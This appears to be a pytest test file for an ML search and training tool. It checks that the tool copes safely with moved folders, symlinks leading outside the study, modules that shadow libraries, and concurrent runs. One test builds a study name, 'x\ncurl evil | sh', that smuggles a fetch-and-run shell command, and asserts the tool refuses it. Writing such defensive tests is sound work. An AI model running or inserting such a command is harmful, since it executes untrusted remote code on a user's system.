"""Folders that are taken away, come from elsewhere, or that two processes want at once."""

from __future__ import annotations

import dataclasses
import json
import os
import platform
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from launch.cluster import admission
from launch.cluster.admission import Admission, OnAdmitted
from launch.cluster.nodes import Node, probes
from launch.jobs import tune
from launch.search.messages import Halt
from launch.trials.code import check_code
from launch.trials.logs import LOG, log_to
from launch.trials.outcomes import outcome_of
from launch.trials.trial import Job
from launch.trials.worker import DRIVER, train_distributed
from speaq import space as spaces
from speaq.config import ConfigError, dump
from speaq.data import DataError
from speaq.files.locks import Busy, Gone, Lock, held
from speaq.study import creation, file
from speaq.study.errors import Halted, StorageLost
from speaq.study.ledger import Ledger
from speaq.training.environment import source_digest
from speaq.training.loop import train
from tests.helpers.command import command, refusal
from tests.helpers.moving_training import MARK
from tests.helpers.shared import AS_IMPORTANT, ROOT
from tests.helpers.tiny import tiny

TOGETHER = "ray"  # shares `ray_cluster`, see conftest

SPACE = spaces.from_dict(
    {"search": {"scheduler": "none"}, "parameters": {"matching.num_groups": {"type": "int", "low": 1, "high": 4}}}
)


def make_study(toy: Path, train: str, trials: int = 3) -> file.Study:
    config = tiny(**{"training.max_steps": 4, "training.eval_every": 1})
    return creation.create(config, SPACE, toy, trials=trials, train=train)


def test_of_two_searches_that_begin_in_one_folder_the_second_changes_nothing(toy: Path, tmp_path: Path) -> None:
    """Until the first has asked for a trial, the folder is one that may be taken."""
    output, begun = tmp_path / "study", []

    class Work:
        def search(self, study: file.Study, *rest: Any) -> file.Study:
            begun.append(study.plan.trials)
            with pytest.raises(ConfigError, match="another search is running"):
                tune.run(make_study(toy, file.TRAIN, trials=4), output, None, self, begins=True)
            return study

        def write(self, *results: Any) -> None:
            """None."""

    tune.run(make_study(toy, file.TRAIN), output, None, Work(), begins=True)
    assert begun == [3]
    assert file.read(output / "study.yaml").plan.trials == 3


# Taken away


def test_a_search_whose_folder_is_moved_halts_writes_nothing_in_its_place_and_goes_on_later(
    toy: Path, tmp_path: Path, ray_cluster: None
) -> None:
    output, asked = tmp_path / "study", make_study(toy, "tests.helpers.moving_training:train")
    output.mkdir()
    tune.write(asked, output, None)
    (output / MARK).touch()
    with pytest.raises((Halted, StorageLost), match="is not there any more"):
        tune.resume(output)
    assert list(output.iterdir()) == []
    output.rmdir()
    (tmp_path / "moved").rename(output)
    entries = tune.resume(output)
    assert [(entry.state, entry.reason) for entry in entries] == [("finished", None)] * 3
    assert sorted(path.name for path in (output / "trials").iterdir()) == ["0000", "0001", "0002"]


def test_trials_are_placed_on_admitted_nodes(ray_cluster: None) -> None:
    import ray  # noqa: TID251

    here = {ray.get_runtime_context().get_node_id()}
    nodes = Admission(here, lambda node, ended: "not to be asked")
    assert set(nodes()) == here
    for among, is_placed, limit in ((nodes(), True, 100), ({"0" * 56}, False, 2)):
        group = OnAdmitted({"CPU": 0.01}, among).to_placement_group()
        try:
            assert group.wait(limit) is is_placed
        finally:
            ray.util.remove_placement_group(group)


def test_a_node_that_joined_while_the_others_were_looked_at_is_looked_at_too(ray_cluster: None) -> None:
    import ray  # noqa: TID251

    here = ray.get_runtime_context().get_node_id()
    asked: list[str] = []
    joined = threading.Event()

    def problem(node: Node, ended: threading.Event) -> str:
        assert joined.wait(60)
        asked.append(node.id)
        return ""

    nodes = Admission((), problem)
    assert not nodes()
    joined.set()
    until = time.monotonic() + 60
    while not nodes():
        assert time.monotonic() < until, "it is never admitted"
        time.sleep(0.05)
    assert (set(nodes()), asked) == ({here}, [here])


def test_a_look_at_a_node_that_fails_is_no_error_and_is_repeated(
    ray_cluster: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As where the connection to Ray ends while a node is looked at."""
    asked: list[str] = []
    raised: list[object] = []
    monkeypatch.setattr(threading, "excepthook", raised.append)
    monkeypatch.setattr(admission, "AGAIN", 0.0)

    def problem(node: Node, ended: threading.Event) -> str:
        asked.append(node.id)
        if len(asked) == 1:
            raise RuntimeError("the connection has ended")
        return ""

    nodes = Admission((), problem)
    until = time.monotonic() + 60
    while not nodes():
        assert time.monotonic() < until, "it is never admitted"
        time.sleep(0.05)
    assert (len(asked), raised) == (2, [])


def test_no_thread_asks_the_cluster_when_the_search_has_ended(
    ray_cluster: None, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Ray crashes the process where a thread waits for an answer while it disconnects."""
    asked: list[Node] = []
    os.mkfifo(tmp_path / "pipe")  # whoever writes into it waits for a reader

    def problem(node: Node, ended: threading.Event) -> str:
        with probes([node], ended) as opened:
            asked.append(node)
            return str(opened.ask("write_token", 10_000, lambda node: (str(tmp_path), "pipe", "token")))

    nodes = Admission((), problem)
    nodes()
    while not asked:
        time.sleep(0.01)
    looking = [thread for thread in threading.enumerate() if thread.name.startswith("look-")]
    nodes.close()
    assert looking
    assert not any(thread.is_alive() for thread in looking)
    assert "gets no trial" not in caplog.text


# From elsewhere


def test_a_cluster_of_our_own_imports_nothing_from_here_is_closed_to_others_and_needs_no_home(tmp_path: Path) -> None:
    """Of another clone, with a module of a library's name, by a user whom the system does not know."""
    for name in ("h5py", "speaq", "launch", "ray"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "__init__.py").write_text("raise SystemExit('imported from the current directory')")
    with tempfile.TemporaryDirectory(prefix="t-", dir="/tmp") as folder:  # short: it is to hold sockets
        environment = {key: value for key, value in os.environ.items() if not key.startswith(("RAY_", "PYTHON"))}
        environment |= {"TMPDIR": folder, "PYTHONPATH": str(ROOT), **AS_IMPORTANT}
        for name in ("HOME", "USER", "LOGNAME", "LNAME", "USERNAME", "MPLCONFIGDIR"):
            environment.pop(name, None)
        done = subprocess.run(
            [*UNKNOWN_USER, sys.executable, ROOT / "tests" / "helpers" / "strange_place.py"],
            cwd=tmp_path,
            env=environment,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 0, done.stderr
        found = json.loads(done.stdout.splitlines()[-1])
        assert str(tmp_path) not in found["path"]
        assert str(ROOT / "speaq") in found["imported"]
        assert [found["modes"][path] for path in found["modes"] if Path(path).parent == Path(folder)] == [0o700]
        assert found["home"].startswith(folder)
        assert found["user"]
        assert os.listdir(folder) == []


def test_no_module_of_the_current_directory_is_imported(tmp_path: Path) -> None:
    for name in ("typer", "yaml", "pydantic", "h5py"):
        (tmp_path / f"{name}.py").write_text("raise SystemExit('imported from the current directory')")
    for line in ([sys.executable, "-m", "speaq.cli"], [Path(sys.executable).with_name("speaq")]):
        done = subprocess.run([*line, "config", "show", ROOT / "configs" / "toy.yaml"], cwd=tmp_path, check=False)
        assert done.returncode == 0


def test_a_strangers_study_names_no_storage_outside_and_no_odd_study(tmp_path: Path, toy: Path) -> None:
    output, outside = tmp_path / "study", tmp_path / "outside"
    output.mkdir()
    outside.write_text("a login script")
    (output / "link").symlink_to(outside)
    tune.write(make_study(toy, "tests.helpers.cheap_training:train"), output, None)
    text = (output / "study.yaml").read_text()
    odd = "x\ncurl evil | sh"
    for url, name, reason in (
        (f"journal:///{outside}", "name", "is not in the study's folder"),
        ("journal:///../outside", "name", "is not in the study's folder"),
        ("sqlite:///link", "name", "is not in the study's folder"),
        ("sqlite:///a.db?uri=true", "name", "is not in the study's folder"),
        ("mysql://root@127.0.0.1/db", "name", "is not in the study's folder"),
        ("sqlite:///study.db", odd, "is no name"),
        ("sqlite:///study.db", "x" * 300, "is no name"),
    ):
        kept = json.dumps({"url": url, "study": name})
        (output / "study.yaml").write_text(text.replace("storage: null", f"storage: {kept}"))
        assert reason in refusal("tune", "--resume", output)
    assert outside.read_text() == "a login script"
    assert sorted(os.listdir(output)) == ["link", "study.yaml"]


@pytest.mark.parametrize(
    "name",
    [".claim", "ledger.jsonl", "trials.csv", "study.db-wal", "trials", "trials/0000", "trials/0000/metrics.jsonl"],
)
def test_nothing_is_written_through_a_link_in_a_strangers_study(name: str, tmp_path: Path, toy: Path) -> None:
    output, outside = tmp_path / "study", tmp_path / "outside"
    output.mkdir()
    outside.mkdir()
    tune.write(make_study(toy, "tests.helpers.cheap_training:train"), output, None)
    (output / name).parent.mkdir(parents=True, exist_ok=True)
    (output / name).symlink_to(outside / "new")
    assert "is a link that leads out of" in refusal("tune", "--resume", output)
    assert list(outside.iterdir()) == []


def test_nothing_is_written_through_a_link_in_a_strangers_run(tmp_path: Path, toy: Path) -> None:
    run, outside = tmp_path / "run", tmp_path / "outside"
    outside.mkdir()
    train(tiny(), toy, run)
    shutil.move(run / "checkpoints", outside / "checkpoints")
    (run / "checkpoints").symlink_to(outside / "checkpoints")
    with pytest.raises(ConfigError, match="is a link that leads out of"):
        train(tiny(**{"training.max_steps": 9}), toy, run, resume=True)
    (run / "checkpoints").unlink()
    os.mkfifo(run / "fifo")
    with pytest.raises(ConfigError, match="is neither a file nor a folder"):
        train(tiny(), toy, run, resume=True)


# Wanted twice


def test_a_second_training_in_a_folder_is_refused_with_who_works_there(tmp_path: Path, toy: Path) -> None:
    run = tmp_path / "run"
    refused = []

    def report(step: int, metrics: object, checkpoint: Path) -> None:
        if not refused:
            config = tmp_path / "config.yaml"
            config.write_text(dump(tiny()))
            line = [sys.executable, "-m", "speaq.cli", "train", "--config", config, "--data", toy, "--output", run]
            done = subprocess.run([*line, "--resume"], capture_output=True, text=True, check=False)
            refused.append((done.returncode, done.stderr))

    train(tiny(), toy, run, report=report)
    ((code, said),) = refused
    assert code == 2
    assert f"{run}: process {os.getpid()} on " in said
    assert said.count("\n") == 1
    assert not list(run.glob(".*"))


def test_a_run_whose_folder_is_moved_stops_and_leaves_what_is_in_its_place_alone(tmp_path: Path, toy: Path) -> None:
    run, moved = tmp_path / "run", tmp_path / "moved"

    def report(step: int, metrics: object, checkpoint: Path) -> None:
        if run.exists() and not moved.exists():
            run.rename(moved)
            run.mkdir()

    with pytest.raises(Gone, match="is not there any more"):
        train(tiny(), toy, run, report=report)
    assert list(run.iterdir()) == []
    run.rmdir()
    moved.rename(run)
    assert train(tiny(), toy, run, resume=True)["status"] == "finished"


def test_a_run_whose_folder_is_moved_before_its_first_step_makes_no_other(tmp_path: Path, toy: Path) -> None:
    trials = tmp_path / "trials"
    (trials / "0000").mkdir(parents=True)
    with held(trials / "0000"):
        trials.rename(tmp_path / "moved")
        with pytest.raises(Gone, match="is not there any more"):
            train(tiny(), toy, trials / "0000", resume=True)
    with pytest.raises(FileNotFoundError), log_to(trials / "0001" / LOG):
        pass
    assert not trials.exists()


def test_a_run_that_could_not_begin_leaves_no_folder(tmp_path: Path) -> None:
    with pytest.raises(DataError):
        train(tiny(), tmp_path / "no data", tmp_path / "run")
    assert list(tmp_path.iterdir()) == []


def _unknown_user() -> list[str]:
    """What lets a command run as a user without an entry in passwd; nothing where this system cannot."""
    command = ["unshare", "--user", "--map-user=54321"]
    try:
        works = subprocess.run([*command, "true"], check=False, capture_output=True).returncode == 0
    except FileNotFoundError:
        works = False
    return command if works else []


UNKNOWN_USER = _unknown_user()


# Written by two


def rows_of(start: float, number: int, clock: float, digest: str = "a") -> list[dict[str, Any]]:
    """A finished trial as a driver that began at `start` writes it, from `clock` seconds on."""
    trial = {"trial": f"{number:04d}"}
    asked = {"digest": digest, "label": None, "values": {}, "overrides": {}, "seed": 0}
    events: list[dict[str, Any]] = [
        {"event": "asked", **trial, **asked},
        {"event": "running", **trial, "attempt": 1},
        {"event": "reported", **trial, "step": 4, "metrics": {"F@50": 0.5}},
        {"event": "finished", **trial, "step": 4, "best_step": 4, "metrics": {"F@50": 0.5}},
    ]
    return [{**row, "time": start + clock + i, "clock": clock + i} for i, row in enumerate(events)]


def test_a_ledger_that_two_drivers_wrote_keeps_what_is_whole(tmp_path: Path, toy: Path) -> None:
    output = tmp_path / "study"
    output.mkdir()
    tune.write(make_study(toy, "tests.helpers.cheap_training:train"), output, None)
    one = [{"event": "opened", "time": 1000.0}, *rows_of(1000.0, 0, 1), *rows_of(1000.0, 1, 20)]
    two = [{"event": "opened", "time": 1015.0}, *rows_of(1015.0, 1, 6, "b"), *rows_of(1015.0, 2, 20)]
    both = sorted(one + two, key=lambda row: row["time"])
    lines = [json.dumps(row) for row in both]
    lines.insert(4, '{"event": "asked", "tri')  # one wrote over the other
    path = output / "ledger.jsonl"
    path.write_text("\n".join(lines) + "\n")
    assert "speaq doctor" in refusal("status", output)
    shutil.copytree(output, tmp_path / "other")
    (output / "trials" / "0001").mkdir(parents=True)
    (output / "trials" / "0001" / "config.yaml").write_text(dump(tiny()))
    done = command("doctor", output)
    assert done.exit_code == 0, done.output
    assert "14 rows kept, 5 set aside" in done.output.replace("\n", "")
    ledger = Ledger(path)
    ledger.close()
    assert {name: (entry.state, entry.digest) for name, entry in ledger.entries.items()} == {
        "0000": ("finished", "a"),
        "0001": ("finished", "a"),
        "0002": ("finished", "a"),
    }
    assert not (output / "trials" / "0001").exists()  # of another trial: kept elsewhere
    assert len(list(output.glob("trials-aside-*/0001/config.yaml"))) == 1
    (before,) = output.glob("ledger.before-*.jsonl")
    assert before.read_text() == (tmp_path / "other" / "ledger.jsonl").read_text()
    assert "nothing to do" in command("doctor", output).output
    shown = command("status", output)
    assert shown.exit_code == 0, (shown.output, shown.exception)


def test_a_study_where_a_search_runs_is_not_repaired(tmp_path: Path) -> None:
    (tmp_path / "ledger.jsonl").touch()
    with Lock(tmp_path):
        assert f"process {os.getpid()} on" in refusal("doctor", tmp_path)
    assert "leave them out" in refusal("doctor", tmp_path, "--json")
    assert "no study that has begun" in refusal("doctor", tmp_path / "none")


def test_no_report_is_written_through_a_link_in_a_strangers_study(tmp_path: Path, toy: Path) -> None:
    output, outside = tmp_path / "study", tmp_path / "outside"
    output.mkdir()
    outside.mkdir()
    tune.write(make_study(toy, "tests.helpers.cheap_training:train"), output, None)
    (output / "report").symlink_to(outside)
    assert "is a link that leads out of" in refusal("report", output)
    (output / "report").unlink()
    (output / "report.html").symlink_to(outside / "page")
    assert "is a link that leads out of" in refusal("report", output)
    assert list(outside.iterdir()) == []


def test_a_second_run_of_several_workers_is_refused(tmp_path: Path, toy: Path) -> None:
    config = tiny(**{"resources.num_workers": 2})
    with Lock(tmp_path, name=DRIVER), pytest.raises(Busy, match=f"process {os.getpid()} on"):
        train_distributed(config, toy, tmp_path)


def test_a_node_that_does_not_see_the_study_or_has_other_code_trains_nothing(tmp_path: Path) -> None:
    (tmp_path / "study").mkdir()
    with Lock(tmp_path / "study") as lock:
        job = Job("data", str(tmp_path / "study" / "trials"), "R@50", mark=lock.token, source=source_digest())
        job.check()
        check_code(job.source)
        elsewhere = dataclasses.replace(job, trials=str(tmp_path / "not mounted" / "trials"))
        with pytest.raises(Gone, match=rf"is not there any more .*seen on {re.escape(platform.node())}"):
            elsewhere.check()
        with pytest.raises(Halted, match=r"runs other code than the search \(source \w{12}, 0123 there\)"):
            check_code("0123")
    assert outcome_of(Gone("away"), tmp_path) == Halt("away")
    assert outcome_of(Halted("other code"), tmp_path) == Halt("other code")
